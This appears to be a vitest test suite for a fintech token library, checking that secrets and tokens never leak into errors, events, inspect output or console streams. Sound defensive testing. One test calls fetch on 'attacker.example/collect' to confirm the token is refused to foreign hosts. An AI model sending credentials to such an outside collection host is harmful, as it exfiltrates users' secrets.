import { inspect } from 'node:util';
import { FintokenError, type FintokenEvent } from '@fintoken/core';
import { createLayerClient } from '@fintoken/layer';
import { startSandbox, type Sandbox } from '@fintoken/sandbox';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LeakScanner } from './support/leaks.js';
import type { MockRequest, MockReply } from './support/mockProvider.js';
import { MOCK_CREDENTIALS, MOCK_TARGETS, mockCanaries, mockHarness, PARENT_TOKEN, type MockTarget } from './support/mockTargets.js';
import { outcome, sandboxCanaries, TARGETS } from './support/targets.js';
import { expectNoUnhandledRejections, trackUnhandledRejections } from './support/unhandled.js';

const rejections = trackUnhandledRejections();

// Everything the libraries write to the console or the process streams while this file runs.
const written: string[] = [];
const restore: Array<() => void> = [];
beforeAll(() => {
  for (const method of ['log', 'info', 'warn', 'error', 'debug', 'trace'] as const) {
    const original = console[method];
    console[method] = (...args: unknown[]) => {
      written.push(args.map((a) => (typeof a === 'string' ? a : inspect(a, { depth: 8 }))).join(' '));
      original.apply(console, args);
    };
    restore.push(() => (console[method] = original));
  }
  for (const stream of [process.stdout, process.stderr]) {
    const original = stream.write.bind(stream);
    stream.write = ((chunk: unknown, ...rest: unknown[]) => {
      written.push(typeof chunk === 'string' ? chunk : Buffer.from(chunk as Uint8Array).toString('utf8'));
      return (original as (...a: unknown[]) => boolean)(chunk, ...rest);
    }) as typeof stream.write;
    restore.push(() => (stream.write = original as typeof stream.write));
  }
});
afterAll(() => {
  for (const undo of restore) undo();
});

// All canaries planted so far; each test scans with its own scanner so a finding names its test.
const planted = new LeakScanner().add(...mockCanaries());
const fresh = () => new LeakScanner().add(...planted.canaries);

const secretOf = (target: MockTarget) =>
  target.name.startsWith('layer1')
    ? MOCK_CREDENTIALS.layer1.clientSecret
    : target.name.startsWith('layer')
      ? MOCK_CREDENTIALS.layer.clientSecret
      : target.name.startsWith('thredfi')
        ? MOCK_CREDENTIALS.thredfi.apiKey
        : MOCK_CREDENTIALS.asset.clientSecret;

/**
 * What a careless provider might quote back from the request, one form per case.
 *
 * Regression test for a bug this suite found (fixed in core since): before the fix, core's redactor (createRedactor, fed by
 * createProviderClient with the raw secrets) only scrubs a secret verbatim. Two encodings of it
 * pass through into error messages and token.failed events:
 * - "the bare Basic credential": base64(`id:secret`) quoted without its `Basic ` prefix (Layer
 *   client token, Thredfi partner token; the Authorization header with its prefix is scrubbed);
 * - "the request body": the form-encoded `client_secret` of a client_secret_post request (Asset,
 *   Layer1), which differs from the raw secret as soon as it holds `+ / = & %` or a space.
 */
const ECHOES: Array<[string, (r: MockRequest, target: MockTarget) => string]> = [
  ['the secret verbatim', (_r, t) => `client secret ${secretOf(t)} is not valid`],
  ['the Authorization header', (r) => `rejected Authorization: ${r.headers.authorization ?? '(none)'}`],
  ['the bare Basic credential (base64 of id:secret)', (r) => `unknown credential ${(r.headers.authorization ?? '').replace(/^Basic /, '')}`],
  ['the request body (a form-encoded secret)', (r) => `could not parse ${r.body}`],
  ['the parent token', () => `token ${PARENT_TOKEN} is revoked`],
];

/** The error body shapes the providers document, each carrying the echo in every free-text field. */
const SHAPES: Array<[string, number, (echo: string) => MockReply]> = [
  ['RFC 6749 error, 400', 400, (e) => ({ status: 400, json: { error: 'invalid_request', error_description: e } })],
  ['RFC 6749 error, 401', 401, (e) => ({ status: 401, json: { error: 'invalid_client', error_description: e } })],
  ['Layer ApiError, 403', 403, (e) => ({ status: 403, json: { type: 'AuthFailure', description: e, error_enum: e.slice(0, 90) } })],
  ['Asset ErrorResponse, 422', 422, (e) => ({ status: 422, json: { error: e, data: [{ loc: ['body', e], msg: e, type: e }] } })],
  ['error code itself, 400', 400, (e) => ({ status: 400, json: { error: e } })],
  ['HTML page, 500', 500, (e) => ({ status: 500, raw: `<html><body><pre>${e}</pre></body></html>`, headers: { 'content-type': 'text/html' } })],
];

describe.each(MOCK_TARGETS)('$name with a provider echoing credentials in its errors', (target) => {
  // Only a business-token client ever holds the parent token; to the others it is an unknown string.
  const echoes = ECHOES.filter(([label]) => label !== 'the parent token' || target.name.includes('business'));
  it.each(echoes)('keeps %s out of every error, event and inspect', async (_label, echo) => {
    const scanner = fresh();
    for (const [shape, , reply] of SHAPES) {
      const events: FintokenEvent[] = [];
      const mock = mockHarness(target, (r) => reply(echo(r, target)));
      const client = target.create(mock.agent, { retry: false, onEvent: (e) => events.push(e) });
      const result = await outcome(() => client.get());
      expect(result.error, shape).toBeInstanceOf(FintokenError);
      scanner.scan(`${target.name} error (${shape})`, result.error);
      for (const event of events) scanner.scan(`${target.name} ${event.type} event (${shape})`, event);
      scanner.scan(`${target.name} client`, client.client);
      expect(mock.requests.length).toBeGreaterThan(0);
    }
    scanner.expectClean();
  });
});

describe('against the sandbox', () => {
  let sandbox: Sandbox;
  beforeAll(async () => {
    sandbox = await startSandbox({ seed: 'secrets' });
    planted.add(...sandboxCanaries(sandbox));
  });
  afterAll(async () => {
    await sandbox?.close();
  });

  it.each(TARGETS)('$name: tokens, clients and events show no secret or token', async (target) => {
    const events: FintokenEvent[] = [];
    const client = target.create(sandbox, { onEvent: (e) => events.push(e) });
    const token = await client.get();
    planted.add({ label: `${target.name} access token`, value: token.accessToken });
    const parent = await client.warm();
    if (parent !== undefined) planted.add({ label: `${target.name} parent token`, value: parent.accessToken });
    const scanner = fresh();
    expect(inspect(token)).toContain('[REDACTED]');
    expect(JSON.stringify(token)).toContain('[REDACTED]');
    scanner.scan(`${target.name} token`, token);
    scanner.scan(`${target.name} client`, client.client);
    for (const event of events) scanner.scan(`${target.name} ${event.type} event`, event);
    scanner.expectClean();
  });

  it('a wrong secret gives an AuthenticationError that shows neither the wrong nor the right secret', async () => {
    const wrong = `${sandbox.credentials.layer.clientSecret}-but-wrong`;
    planted.add({ label: 'wrong layer secret', value: wrong });
    const scanner = fresh();
    const events: FintokenEvent[] = [];
    const layer = createLayerClient({
      clientId: sandbox.credentials.layer.clientId,
      clientSecret: wrong,
      environment: 'sandbox',
      authUrl: sandbox.urls.layer.authUrl,
      apiUrl: sandbox.urls.layer.apiUrl,
      onEvent: (e) => events.push(e),
    });
    const result = await outcome(() => layer.getToken());
    expect((result.error as FintokenError).code).toBe('ERR_AUTHENTICATION');
    const fetched = await outcome(() => layer.fetch('/whoami'));
    expect(fetched.error).toBeInstanceOf(FintokenError);
    for (const thing of [result.error, fetched.error, layer, ...events]) scanner.scan('wrong-secret scenario', thing);
    scanner.expectClean();
  });

  it('client.fetch refuses another host without leaking the token it would have sent', async () => {
    const target = TARGETS[0]!;
    const client = target.create(sandbox).client as { fetch(url: string): Promise<unknown>; getToken(): Promise<{ accessToken: string }> };
    planted.add({ label: 'layer fetch token', value: (await client.getToken()).accessToken });
    const scanner = fresh();
    const result = await outcome(() => client.fetch('https://attacker.example/collect'));
    expect((result.error as FintokenError).code).toBe('ERR_INVALID_REQUEST');
    scanner.scan('fetch refusal', result.error);
    scanner.expectClean();
  });
});

describe('console and process output', () => {
  it('carries no secret or token written while this file ran', () => {
    const scanner = fresh();
    scanner.scan('console/stdout/stderr', written.join('\n'));
    scanner.expectClean();
  });
});

expectNoUnhandledRejections(rejections);
